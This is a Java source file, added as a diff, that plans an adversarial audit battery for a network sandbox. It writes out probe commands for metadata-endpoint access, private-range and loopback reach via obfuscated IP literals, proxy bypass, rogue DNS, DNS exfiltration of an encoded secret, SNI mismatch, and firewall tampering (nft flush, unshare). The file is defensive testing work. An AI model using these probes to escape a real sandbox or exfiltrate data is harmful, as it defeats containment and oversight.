@@ -1,0 +1,463 @@
+package dev.airlock.audit.battery;
+
+import dev.airlock.policy.address.Cidr;
+import dev.airlock.policy.address.IpAddress;
+import dev.airlock.policy.model.Destination;
+import dev.airlock.policy.model.Rule;
+import dev.airlock.policy.name.NamePattern;
+import java.util.ArrayList;
+import java.util.LinkedHashMap;
+import java.util.LinkedHashSet;
+import java.util.List;
+import java.util.Map;
+import java.util.Optional;
+import java.util.Set;
+
+/**
+ * The adversarial battery (docs/audit.md): which probes to run for one sandbox, as data. Pure: the
+ * same context gives the same probes, in the same order, with the same ids (history compares runs
+ * by id). The tampering probes that could disturb the sandbox itself come last.
+ */
+public final class Battery {
+
+    /** Every category, in report order. */
+    public static final List<String> CATEGORIES = List.of("production", "protected-range", "host-service", "other-sandbox",
+            "proxy-bypass", "rogue-dns", "dns-exfiltration", "ip-literal", "sni-mismatch", "unlisted-port", "udp-icmp-ipv6",
+            "files", "allowed", "tampering");
+
+    /** How much to run: everything, or the quick subset for a warm-pool claim (a few seconds). */
+    public enum Scope {
+        FULL, QUICK
+    }
+
+    /** Bounds the battery on large policies: the report says when entries were left out. */
+    static final int MAX_ADDRESSES_PER_NAME = 4;
+    static final int MAX_ALLOWED = 40;
+    static final int MAX_PRODUCTION = 60;
+
+    private final BatteryContext c;
+    private final Map<String, Probe> probes = new LinkedHashMap<>();
+
+    private Battery(BatteryContext c) {
+        this.c = c;
+    }
+
+    public static List<Probe> plan(BatteryContext context, Scope scope) {
+        Battery b = new Battery(context);
+        if (scope == Scope.QUICK) {
+            b.quick();
+        } else {
+            b.production();
+            b.protectedRanges();
+            b.hostServices();
+            b.otherSandboxes();
+            b.proxyBypass();
+            b.rogueDns();
+            b.dnsExfiltration();
+            b.ipLiterals();
+            b.sniMismatch();
+            b.unlistedPort();
+            b.udpIcmpIpv6();
+            b.files();
+            b.allowed();
+            b.tampering();
+        }
+        return List.copyOf(b.probes.values());
+    }
+
+    // ---------------------------------------------------------------------------------------------
+
+    private void quick() {
+        http("protected-range", "metadata:80:transparent", "169.254.169.254", "http://169.254.169.254/latest/meta-data/", "--noproxy '*'");
+        tcp("host-service", "host-service:listener", c.hostAddress() + ":" + c.hostListener().port(), c.hostAddress(),
+                c.hostListener().port(), "http", Optional.of(c.hostListener()));
+        c.org().production().stream().findFirst().ifPresent(r -> {
+            for (String t : concreteTargets(r).stream().limit(2).toList()) {
+                int port = firstPort(r, 443);
+                tcp("production", "production:" + t + ":" + port + ":transparent", t + ":" + port, t, port, kindFor(port), Optional.empty());
+            }
+        });
+        add("rogue-dns", "rogue-dns:8.8.8.8", "8.8.8.8:53 (udp)", Expect.BLOCKED, "no reply from a resolver other than Airlock's",
+                "dns 8.8.8.8 example.com 1", Optional.empty());
+        add("tampering", "tampering:nft-list", "nft list ruleset", Expect.COMMAND_FAILS, "refused: the sandbox has no CAP_NET_ADMIN",
+                "fails nft list ruleset", Optional.empty());
+        for (BatteryContext.HiddenPath h : c.hiddenPaths()) {
+            if (h.id().equals("state-dir")) {
+                hidden(h);
+            }
+        }
+    }
+
+    private void production() {
+        int before = probes.size();
+        for (Rule r : c.org().production()) {
+            if (probes.size() - before >= MAX_PRODUCTION) {
+                break;
+            }
+            List<Integer> ports = ports(r, List.of(80, 443));
+            switch (r.destination()) {
+                case Destination.Names n -> {
+                    for (String name : concreteNames(n.pattern())) {
+                        for (int port : ports) {
+                            tcp("production", "production:" + name + ":" + port + ":transparent", name + ":" + port, name, port,
+                                    kindFor(port), Optional.empty());
+                        }
+                        http("production", "production:" + name + ":proxy", name + " via HTTP_PROXY", "http://" + name + "/", "");
+                        for (String a : c.resolve().apply(name).stream().limit(MAX_ADDRESSES_PER_NAME).toList()) {
+                            for (int port : ports) {
+                                tcp("production", "production:" + name + "@" + a + ":" + port, a + ":" + port + " (" + name + ")",
+                                        a, port, kindFor(port), Optional.empty());
+                            }
+                        }
+                    }
+                }
+                case Destination.Addresses a -> {
+                    for (String addr : representatives(a.cidr())) {
+                        for (int port : ports) {
+                            tcp("production", "production:" + addr + ":" + port + ":transparent", addr + ":" + port + " (" + a.cidr() + ")",
+                                    addr, port, kindFor(port), Optional.empty());
+                        }
+                        http("production", "production:" + addr + ":proxy", addr + " via HTTP_PROXY", "http://" + url(addr) + "/", "");
+                    }
+                }
+            }
+        }
+    }
+
+    private void protectedRanges() {
+        http("protected-range", "metadata:80:transparent", "169.254.169.254:80", "http://169.254.169.254/latest/meta-data/", "--noproxy '*'");
+        http("protected-range", "metadata:80:proxy", "169.254.169.254 via HTTP_PROXY", "http://169.254.169.254/latest/meta-data/", "");
+        Map<String, String> ranges = new LinkedHashMap<>();
+        ranges.put("rfc1918-10", "10.0.0.1");
+        ranges.put("rfc1918-172", "172.16.0.1");
+        ranges.put("rfc1918-192", "192.168.0.1");
+        ranges.put("cgnat", "100.64.0.1");
+        ranges.put("link-local", "169.254.0.1");
+        ranges.put("unspecified", "0.0.0.0");
+        ranges.put("multicast", "224.0.0.1");
+        for (Map.Entry<String, String> e : ranges.entrySet()) {
+            tcp("protected-range", e.getKey() + ":80:transparent", e.getValue() + ":80", e.getValue(), 80, "http", Optional.empty());
+            http("protected-range", e.getKey() + ":proxy", e.getValue() + " via HTTP_PROXY", "http://" + e.getValue() + "/", "");
+        }
+        LocalTarget.Tcp lo = c.loopbackListener();
+        proxied("protected-range", "loopback:proxy", "127.0.0.1:" + lo.port() + " (the host's loopback, via the proxy)", "GET",
+                "http://127.0.0.1:" + lo.port() + "/", "127.0.0.1:" + lo.port(), Optional.of(lo));
+        proxied("protected-range", "loopback:connect", "CONNECT 127.0.0.1:" + lo.port() + " (the host's loopback)", "CONNECT",
+                "127.0.0.1:" + lo.port(), "127.0.0.1:" + lo.port(), Optional.of(lo));
+        http("protected-range", "ula:proxy", "[fd00::1] via HTTP_PROXY", "http://[fd00::1]/", "");
+        http("protected-range", "loopback6:proxy", "[::1] via HTTP_PROXY", "http://[::1]:" + lo.port() + "/", "");
+    }
+
+    private void hostServices() {
+        LocalTarget.Tcp l = c.hostListener();
+        tcp("host-service", "host-service:listener", c.hostAddress() + ":" + l.port() + " (a listener the audit started)", c.hostAddress(),
+                l.port(), "http", Optional.of(l));
+        proxied("host-service", "host-service:listener:proxy", c.hostAddress() + ":" + l.port() + " via HTTP_PROXY", "GET",
+                "http://" + c.hostAddress() + ":" + l.port() + "/", c.hostAddress() + ":" + l.port(), Optional.of(l));
+        tcp("host-service", "host-service:gateway-transparent-port", c.hostAddress() + ":" + c.transparentPort()
+                + " (the gateway's transparent listener, dialled directly)", c.hostAddress(), c.transparentPort(), "http", Optional.empty());
+        tcp("host-service", "host-service:gateway-dns-tcp", c.hostAddress() + ":" + c.dnsPort() + " (the DNS responder's own port)",
+                c.hostAddress(), c.dnsPort(), "http", Optional.empty());
+        tcp("host-service", "host-service:ssh", c.hostAddress() + ":22", c.hostAddress(), 22, "none", Optional.empty());
+    }
+
+    private void otherSandboxes() {
+        LocalTarget.Tcp l = c.hostListener();
+        tcp("other-sandbox", "other-sandbox:host-side", c.neighbourHostAddress() + ":" + l.port() + " (another sandbox's host-side link)",
+                c.neighbourHostAddress(), l.port(), "http", Optional.of(new LocalTarget.Tcp(c.neighbourHostAddress(), l.port(), l.marker())));
+        tcp("other-sandbox", "other-sandbox:sandbox-side", c.neighbourSandboxAddress() + ":80 (another sandbox's own address)",
+                c.neighbourSandboxAddress(), 80, "http", Optional.empty());
+        add("other-sandbox", "other-sandbox:dns", c.neighbourHostAddress() + ":53 (another sandbox's DNS)", Expect.BLOCKED,
+                "no reply", "dns " + c.neighbourHostAddress() + " localhost 1", Optional.empty());
+    }
+
+    private void proxyBypass() {
+        Optional<String> allowed = firstAllowedName(80);
+        allowed.ifPresent(n -> add("proxy-bypass", "proxy-bypass:allowed:no-proxy", n + ":80 with NO_PROXY=* (goes through the transparent path)",
+                Expect.REACHABLE, "reached through the transparent path, so nothing depends on HTTP_PROXY",
+                "NO_PROXY='*' no_proxy='*' http http://" + n + "/ --noproxy '*'", Optional.empty()));
+        for (Rule r : c.org().production()) {
+            for (String t : concreteTargets(r).stream().limit(1).toList()) {
+                http("proxy-bypass", "proxy-bypass:" + t + ":no-proxy", t + " with NO_PROXY=*", "http://" + url(t) + "/",
+                        "--noproxy '*'");
+                add("proxy-bypass", "proxy-bypass:" + t + ":unset", t + " with the proxy variables unset", Expect.BLOCKED,
+                        "blocked", "unset HTTP_PROXY HTTPS_PROXY http_proxy https_proxy; http http://" + url(t) + "/", Optional.empty());
+            }
+        }
+        LocalTarget.Tcp l = c.hostListener();
+        http("proxy-bypass", "proxy-bypass:host-listener:no-proxy", c.hostAddress() + ":" + l.port() + " with NO_PROXY=*",
+                "http://" + c.hostAddress() + ":" + l.port() + "/", "--noproxy '*'", Optional.of(l));
+    }
+
+    private void rogueDns() {
+        add("rogue-dns", "rogue-dns:8.8.8.8", "8.8.8.8:53 (udp)", Expect.BLOCKED, "no reply from a resolver other than Airlock's",
+                "dns 8.8.8.8 example.com 1", Optional.empty());
+        add("rogue-dns", "rogue-dns:198.18.0.53", "198.18.0.53:53 (udp)", Expect.BLOCKED, "no reply", "dns 198.18.0.53 example.com 1",
+                Optional.empty());
+        tcp("rogue-dns", "rogue-dns:8.8.8.8:tcp", "8.8.8.8:53 (tcp)", "8.8.8.8", 53, "none", Optional.empty());
+        LocalTarget.Udp u = c.udpListener();
+        add("rogue-dns", "rogue-dns:host-udp", c.hostAddress() + ":" + u.port() + " (udp; a responder the audit started)", Expect.BLOCKED,
+                "no reply", "udp " + c.hostAddress() + " " + u.port() + " '" + hexEscape("airlock-audit") + "'", Optional.of(u));
+    }
+
+    private void dnsExfiltration() {
+        String label = "a".repeat(20) + "0123456789abcdef0123456789abcdef0123456789a";
+        add("dns-exfiltration", "dns-exfiltration:long-label", label.length() + "-character label under exfil.invalid", Expect.BLOCKED,
+                "no answer from Airlock's DNS for a name the policy does not allow", "dns " + c.hostAddress() + " " + label
+                        + ".exfil.invalid 1",
+                Optional.empty());
+        add("dns-exfiltration", "dns-exfiltration:unknown-name", "an unknown name (A)", Expect.BLOCKED, "no answer",
+                "dns " + c.hostAddress() + " not-allowed.exfil.invalid 1", Optional.empty());
+        String txt = firstAllowedName(-1).orElse("example.com");
+        add("dns-exfiltration", "dns-exfiltration:txt", "TXT " + txt, Expect.BLOCKED, "no answer: Airlock answers only A and AAAA",
+                "dns " + c.hostAddress() + " " + txt + " 16", Optional.empty());
+        add("dns-exfiltration", "dns-exfiltration:getent", "getent hosts <secret>.exfil.invalid", Expect.BLOCKED, "no address",
+                "need getent; if out=$(getent hosts c2VjcmV0.exfil.invalid 2>&1); then echo \"@result reached $out\"; "
+                        + "else echo '@result blocked getent found no address'; fi",
+                Optional.empty());
+    }
+
+    private void ipLiterals() {
+        LocalTarget.Tcp lo = c.loopbackListener();
+        Map<String, String> forms = new LinkedHashMap<>();
+        forms.put("octal", "0177.0.0.1");
+        forms.put("decimal", "2130706433");
+        forms.put("hex", "0x7f.1");
+        forms.put("short", "127.1");
+        forms.put("mapped-v6", "[::ffff:127.0.0.1]");
+        for (Map.Entry<String, String> e : forms.entrySet()) {
+            String authority = e.getValue() + ":" + lo.port();
+            proxied("ip-literal", "ip-literal:" + e.getKey(), authority + " via HTTP_PROXY (the host's loopback)", "GET",
+                    "http://" + authority + "/", authority, Optional.of(lo));
+            proxied("ip-literal", "ip-literal:" + e.getKey() + ":connect", "CONNECT " + authority, "CONNECT", authority, authority,
+                    Optional.of(lo));
+        }
+    }
+
+    private void sniMismatch() {
+        Optional<String> allowed = firstAllowedName(443);
+        String denied = c.org().production().stream().flatMap(r -> concreteTargets(r).stream())
+                .filter(t -> !t.contains(":") && Character.isDigit(t.charAt(0))).findFirst().orElse("10.0.0.1");
+        String sni = allowed.orElse("allowed.invalid");
+        add("sni-mismatch", "sni-mismatch:allowed-sni-to-denied-address", "TLS with SNI " + sni + " to " + denied + ":443", Expect.BLOCKED,
+                "no TLS handshake with the denied address",
+                "http https://" + sni + "/ -k --noproxy '*' --resolve " + sni + ":443:" + denied, Optional.empty());
+        allowed.ifPresent(a -> add("sni-mismatch", "sni-mismatch:denied-sni-to-allowed-name", "TLS with SNI denied.invalid to " + a + ":443",
+                Expect.BLOCKED, "no TLS handshake: the SNI differs from the name the connection was resolved for",
+                "http https://denied.invalid/ -k --noproxy '*' --connect-to denied.invalid:443:" + a + ":443", Optional.empty()));
+    }
+
+    private void unlistedPort() {
+        for (Rule r : c.allow()) {
+            if (r.destination() instanceof Destination.Names n && n.pattern() instanceof NamePattern.Exact && !r.ports().isAny()) {
+                String name = n.pattern().toString();
+                int port = 8081;
+                while (r.ports().contains(port)) {
+                    port++;
+                }
+                tcp("unlisted-port", "unlisted-port:" + name, name + ":" + port + " (allowed on " + r.ports() + " only)", name, port, "http",
+                        Optional.empty());
+                http("unlisted-port", "unlisted-port:" + name + ":proxy", name + ":" + port + " via HTTP_PROXY", "http://" + name + ":" + port
+                        + "/", "");
+                return;
+            }
+        }
+    }
+
+    private void udpIcmpIpv6() {
+        String quic = hexEscape("\u00c0\u0000\u0000\u0000\u0001airlock-audit-quic");
+        String target = firstAllowedName(443).orElse("1.1.1.1");
+        add("udp-icmp-ipv6", "udp:443:quic", target + ":443 (udp, QUIC-shaped)", Expect.BLOCKED, "no datagram back",
+                "udp " + target + " 443 '" + quic + "'", Optional.empty());
+        add("udp-icmp-ipv6", "icmp:host", "ping " + c.hostAddress(), Expect.BLOCKED, "no echo reply",
+                "need ping; if out=$(ping -n -c 1 -W 2 " + c.hostAddress() + " 2>&1); then echo \"@result reached $(echo $out | head -c 160)\"; "
+                        + "else echo \"@result blocked $(echo $out | tail -c 160)\"; fi",
+                Optional.empty());
+        add("udp-icmp-ipv6", "icmp:1.1.1.1", "ping 1.1.1.1", Expect.BLOCKED, "no echo reply",
+                "need ping; if out=$(ping -n -c 1 -W 2 1.1.1.1 2>&1); then echo \"@result reached $(echo $out | head -c 160)\"; "
+                        + "else echo \"@result blocked $(echo $out | tail -c 160)\"; fi",
+                Optional.empty());
+        tcp("udp-icmp-ipv6", "ipv6:ula", "[fd00:a1::1]:80", "fd00:a1::1", 80, "http", Optional.empty());
+        add("udp-icmp-ipv6", "ipv6:addresses", "IPv6 addresses in the sandbox", Expect.BLOCKED, "no global or ULA IPv6 address",
+                "need ip; a=$(ip -6 -o addr show scope global 2>&1); if [ -n \"$a\" ]; then echo \"@result reached $a\"; "
+                        + "else echo '@result blocked no global IPv6 address'; fi",
+                Optional.empty());
+    }
+
+    private void files() {
+        for (BatteryContext.HiddenPath h : c.hiddenPaths()) {
+            hidden(h);
+        }
+    }
+
+    private void hidden(BatteryContext.HiddenPath h) {
+        add("files", "files:" + h.id(), h.path() + " (" + h.what() + ")", Expect.BLOCKED, "not visible in the sandbox",
+                "visible " + quote(h.path().toString()), Optional.of(new LocalTarget.File(h.path().toString())));
+    }
+
+    private void allowed() {
+        int n = 0;
+        for (Rule r : c.allow()) {
+            List<Integer> ports = ports(r, List.of(80, 443)).stream().limit(2).toList();
+            List<String> targets = switch (r.destination()) {
+                case Destination.Names names -> concreteNames(names.pattern());
+                case Destination.Addresses a -> representatives(a.cidr());
+            };
+            for (String t : targets) {
+                for (int port : ports) {
+                    if (n++ >= MAX_ALLOWED) {
+                        return;
+                    }
+                    String id = "allowed:" + t + ":" + port;
+                    if (port == 443 || port == 8443) {
+                        add("allowed", id, t + ":" + port + " (TLS)", Expect.REACHABLE, "a TLS handshake and an HTTP answer",
+                                "http https://" + url(t) + ":" + port + "/ -k --noproxy '*'", Optional.empty());
+                    } else {
+                        add("allowed", id, t + ":" + port, Expect.REACHABLE, "the server answers",
+                                "tcp " + t + " " + port + " " + kindFor(port), Optional.empty());
+                    }
+                }
+            }
+        }
+    }
+
+    private void tampering() {
+        add("tampering", "tampering:route-add", "ip route add", Expect.COMMAND_FAILS, "refused: no CAP_NET_ADMIN",
+                "fails ip route add 198.18.254.0/24 dev lo", Optional.empty());
+        add("tampering", "tampering:addr-add", "ip addr add", Expect.COMMAND_FAILS, "refused: no CAP_NET_ADMIN",
+                "fails ip addr add 198.18.254.1/32 dev lo", Optional.empty());
+        add("tampering", "tampering:nft-list", "nft list ruleset", Expect.COMMAND_FAILS, "refused: no CAP_NET_ADMIN",
+                "fails nft list ruleset", Optional.empty());
+        add("tampering", "tampering:unshare-user", "unshare -U (new user namespace)", Expect.COMMAND_FAILS,
+                "refused: new user namespaces are disabled", "fails unshare -U true", Optional.empty());
+        add("tampering", "tampering:unshare-root", "unshare -r -n (root in a new user and network namespace)", Expect.COMMAND_FAILS,
+                "refused", "fails unshare -r -n true", Optional.empty());
+        add("tampering", "tampering:unshare-net", "unshare -n (new network namespace)", Expect.COMMAND_FAILS, "refused: no CAP_SYS_ADMIN",
+                "fails unshare -n true", Optional.empty());
+        add("tampering", "tampering:nft-flush", "nft flush ruleset", Expect.COMMAND_FAILS, "refused: no CAP_NET_ADMIN",
+                "fails nft flush ruleset", Optional.empty());
+    }
+
+    // ---------------------------------------------------------------------------------------------
+
+    private void tcp(String category, String id, String target, String host, int port, String kind, Optional<? extends LocalTarget> control) {
+        add(category, id, target, Expect.BLOCKED, "no byte back from the target", "tcp " + host + " " + port + " " + kind,
+                control.map(LocalTarget.class::cast));
+    }
+
+    private void http(String category, String id, String target, String url, String curlOptions) {
+        http(category, id, target, url, curlOptions, Optional.empty());
+    }
+
+    private void http(String category, String id, String target, String url, String curlOptions, Optional<LocalTarget> control) {
+        add(category, id, target, Expect.BLOCKED, "no HTTP answer from the target", "http " + quote(url) + " " + curlOptions, control);
+    }
+
+    /** A raw request to the explicit proxy, so odd address forms reach it exactly as written (curl would normalise them). */
+    private void proxied(String category, String id, String target, String method, String requestTarget, String authority,
+            Optional<LocalTarget.Tcp> control) {
+        add(category, id, target, Expect.BLOCKED, "Airlock's proxy denies it; the target never answers",
+                "proxied " + c.hostAddress() + " " + c.proxyPort() + " " + method + " " + quote(requestTarget) + " " + quote(authority),
+                control.map(LocalTarget.class::cast));
+    }
+
+    private void add(String category, String id, String target, Expect expect, String expected, String body, Optional<LocalTarget> control) {
+        if (!CATEGORIES.contains(category)) {
+            throw new IllegalArgumentException("unknown category " + category);
+        }
+        probes.putIfAbsent(id, new Probe(id, category, target, expect, expected, ". /workspace/lib.sh\n" + body + "\n", control));
+    }
+
+    /** Concrete names for a rule: itself when exact; for a wildcard, the known names under it, or one made-up name. */
+    private List<String> concreteNames(NamePattern p) {
+        if (p instanceof NamePattern.Exact) {
+            return List.of(p.toString());
+        }
+        List<String> known = c.knownNames().stream().filter(p::matches).limit(MAX_ADDRESSES_PER_NAME).toList();
+        if (!known.isEmpty()) {
+            return known;
+        }
+        return List.of("airlock-audit." + p.toString().substring(2));
+    }
+
+    private List<String> concreteTargets(Rule r) {
+        return switch (r.destination()) {
+            case Destination.Names n -> concreteNames(n.pattern());
+            case Destination.Addresses a -> representatives(a.cidr());
+        };
+    }
+
+    private Optional<String> firstAllowedName(int port) {
+        for (Rule r : c.allow()) {
+            if (r.destination() instanceof Destination.Names n && n.pattern() instanceof NamePattern.Exact
+                    && (port < 0 || r.ports().contains(port))) {
+                return Optional.of(n.pattern().toString());
+            }
+        }
+        return Optional.empty();
+    }
+
+    /** The first usable and last usable address of a range (one address for a /32 or /128; both for a /31). */
+    static List<String> representatives(Cidr cidr) {
+        IpAddress net = cidr.network();
+        int bits = net.family().bits;
+        int host = bits - cidr.prefixLength();
+        Set<String> out = new LinkedHashSet<>();
+        if (net.isV4()) {
+            long base = net.v4Bits() & 0xffffffffL;
+            long size = 1L << host;
+            long first = host >= 2 ? base + 1 : base;
+            long last = host >= 2 ? base + size - 2 : base + size - 1;
+            out.add(IpAddress.ipv4((int) first).toString());
+            out.add(IpAddress.ipv4((int) last).toString());
+        } else {
+            long hi = net.hi();
+            long lo = net.lo();
+            out.add(IpAddress.ipv6(hi, host == 0 ? lo : lo + 1).toString());
+            long lastLo = host >= 64 ? -1L : lo | ((1L << host) - 1);
+            long lastHi = host > 64 ? hi | ((1L << (host - 64)) - 1) : hi;
+            out.add(IpAddress.ipv6(lastHi, lastLo).toString());
+        }
+        return List.copyOf(out);
+    }
+
+    private static List<Integer> ports(Rule r, List<Integer> fallback) {
+        if (r.ports().isAny()) {
+            return fallback;
+        }
+        List<Integer> out = new ArrayList<>();
+        for (int p : r.ports().ports()) {
+            out.add(p);
+        }
+        return out.stream().limit(3).toList();
+    }
+
+    private static int firstPort(Rule r, int fallback) {
+        return r.ports().isAny() ? fallback : r.ports().ports()[0];
+    }
+
+    static String kindFor(int port) {
+        return switch (port) {
+            case 9418 -> "git";
+            case 22, 21, 25, 587 -> "none";
+            default -> "http";
+        };
+    }
+
+    private static String url(String host) {
+        return host.contains(":") ? "[" + host + "]" : host;
+    }
+
+    static String quote(String s) {
+        return "'" + s.replace("'", "'\\''") + "'";
+    }
+
+    /** printf escapes for arbitrary bytes (Latin-1 code points). */
+    static String hexEscape(String s) {
+        StringBuilder b = new StringBuilder();
+        for (char ch : s.toCharArray()) {
+            b.append(String.format("\\x%02x", (int) ch & 0xff));
+        }
+        return b.toString();
+    }
+}
